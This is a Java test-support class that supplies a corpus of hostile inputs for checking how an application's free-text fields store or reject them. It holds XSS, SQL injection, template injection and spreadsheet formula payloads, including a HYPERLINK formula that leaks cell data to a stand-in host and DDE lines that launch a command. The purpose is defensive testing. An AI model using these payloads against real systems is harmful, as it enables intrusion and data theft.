package org.cjengage.core.testsupport;

import java.util.List;
import java.util.stream.Stream;

/**
 * A corpus of hostile and unusual text for pushing through every form, import and service. Each case says
 * whether a free-text field must ACCEPT it (stored and shown back verbatim, never executed) or REFUSE it with
 * a clear validation message. Reuse it for new fields: {@code HostileInput.all()} as a parameter source.
 */
public final class HostileInput {

    /** What a free-text field must do with the case. */
    public enum Expect { ACCEPT, REFUSE }

    public record Case(String name, String text, Expect expect) {
        @Override
        public String toString() {
            return name;
        }

        public boolean accepted() {
            return expect == Expect.ACCEPT;
        }
    }

    public static final String SCRIPT_TAG = "<script>alert('xss')</script>";
    public static final String GAELIC = "Còmhradh coimhearsnachd ann an Steòrnabhagh: àite, èisteachd, òran, ùine";
    public static final int LONG_LENGTH = 100_000;

    private static final List<Case> CASES = List.of(
            new Case("script tag", SCRIPT_TAG, Expect.ACCEPT),
            new Case("img onerror", "<img src=x onerror=alert(1)>", Expect.ACCEPT),
            new Case("attribute breakout", "\" onmouseover=\"alert(1)\" x=\"", Expect.ACCEPT),
            new Case("javascript url", "javascript:alert(document.cookie)", Expect.ACCEPT),
            new Case("svg onload", "<svg/onload=alert(1)>", Expect.ACCEPT),
            new Case("html entities", "&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;", Expect.ACCEPT),
            new Case("template injection", "{{7*7}} ${7*7} #{7*7}", Expect.ACCEPT),
            new Case("sql quote", "O'Brien's group'; DROP TABLE engagement_activity; --", Expect.ACCEPT),
            new Case("sql union", "1 UNION SELECT username, password_hash FROM app_user", Expect.ACCEPT),
            new Case("sql comment", "admin'/*", Expect.ACCEPT),
            new Case("formula hyperlink", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", Expect.ACCEPT),
            new Case("formula plus cmd", "+cmd|' /C calc'!A0", Expect.ACCEPT),
            new Case("formula minus", "-1+1", Expect.ACCEPT),
            new Case("formula at", "@SUM(1+1)*cmd|' /C calc'!A0", Expect.ACCEPT),
            new Case("emoji and astral", "Community café ☕ 👩🏽‍🤝‍👩🏻 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏴󠁧󠁢󠁳󠁣󠁴󠁿", Expect.ACCEPT),
            new Case("gaelic accents", GAELIC, Expect.ACCEPT),
            new Case("other scripts", "Ελληνικά, 中文, العربية, עברית", Expect.ACCEPT),
            new Case("newlines and tabs", "line one\nline two\r\n\tindented", Expect.ACCEPT),
            new Case("zero width space", "zero\u200Bwidth\u200Cjoin\u200Dchars", Expect.ACCEPT),
            new Case("null byte", "before\u0000after", Expect.REFUSE),
            new Case("bell and escape", "ring\u0007\u001B[31mred", Expect.REFUSE),
            new Case("right-to-left override", "invoice\u202Etxt.exe", Expect.REFUSE),
            new Case("bidi isolate", "name\u2067hidden\u2069", Expect.REFUSE),
            new Case("very long text", "A".repeat(LONG_LENGTH), Expect.REFUSE));

    private HostileInput() {
    }

    public static List<Case> all() {
        return CASES;
    }

    public static Stream<Case> accepted() {
        return CASES.stream().filter(Case::accepted);
    }

    public static Stream<Case> refused() {
        return CASES.stream().filter(c -> !c.accepted());
    }

    /** The case cut to fit a field of {@code max} characters (only for accepted cases; keeps code points whole). */
    public static String fitted(Case c, int max) {
        String t = c.text();
        if (t.length() <= max) {
            return t;
        }
        int end = t.offsetByCodePoints(0, t.codePointCount(0, max) - 1);
        return t.substring(0, end);
    }
}
